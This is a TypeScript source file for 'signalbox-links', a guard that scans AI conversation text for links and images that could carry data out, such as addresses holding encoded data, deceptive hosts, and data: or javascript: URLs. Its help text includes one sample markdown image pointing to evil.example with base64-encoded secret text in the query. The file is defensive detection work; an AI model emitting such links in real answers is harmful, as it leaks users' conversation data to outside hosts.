import { answer } from '../answer.ts';
import { origins } from '../guard.ts';
import { defineGuard, oneOf, readScan, usageError } from '../program/options.ts';
import { createLinkRules, linkActions, linkKindNames, scannedOrigins } from './rules.ts';

export const guard = defineGuard({
  program: 'signalbox-links',
  about: `Finds addresses by which an answer could carry a conversation away: images and links whose address holds data, hosts
that are not what they seem, data: and javascript:. A provider or tool hook, an eval or a tool: one JSON object on stdin is
answered on stdout; a line of JSON-RPC makes it a server.`,
  columns: [19, 28],
  options: {
    'allow-host': [
      'list',
      'LIST',
      'hosts that may be linked to, *.example.org for all below one; with a list\nevery other host is found, too',
    ],
    kinds: ['list', 'LIST', 'what is looked for (default: all)'],
    action: ['text', 'WORD', `${linkActions.join(' or ')} (default: strip; arguments of tools are denied)`],
    scan: ['list', 'LIST', `whose texts: ${origins.join(', ')}\n(default: ${scannedOrigins.join(', ')})`],
    help: ['flag', '', 'this text'],
  },
  notes: () => `Kinds: ${linkKindNames.join(', ')}

In runtime.yaml:
  hooks:
    links: {command: signalbox-links, args: [--allow-host, '*.example.org'], hook: provider, runtime: server}
  evals:
    no_exfiltration: {command: signalbox-links, runtime: server}

By hand:
  echo '{"args": {"text": "![](https://evil.example/?q=c2VjcmV0IHRoaW5ncyBvZiBBZGE)"}}' | signalbox-links
`,
  read: (options) => {
    const kinds = options.list('kinds').map((word) => oneOf('kind', word, linkKindNames));
    return {
      kinds: new Set(kinds.length === 0 ? linkKindNames : kinds),
      scans: readScan(options, scannedOrigins),
      action: oneOf('action', options.text('action') ?? 'strip', linkActions),
      allowed: options.list('allow-host').map(requireHost),
    };
  },
  open: (settings) => {
    const rules = createLinkRules(settings);
    return { answer: (payload) => answer(payload, rules) };
  },
});

function requireHost(text: string): string {
  const host = text.replace(/^\*\./, '');
  if (/^[\p{L}\p{N}_.:[\]-]+$/u.test(host) && URL.canParse(`https://${host}/`)) {
    return text.replace(host, new URL(`https://${host}/`).hostname);
  }
  throw usageError(
    `"${text}" is no host`,
    'A host is a name such as example.org, or *.example.org for all below it.',
  );
}
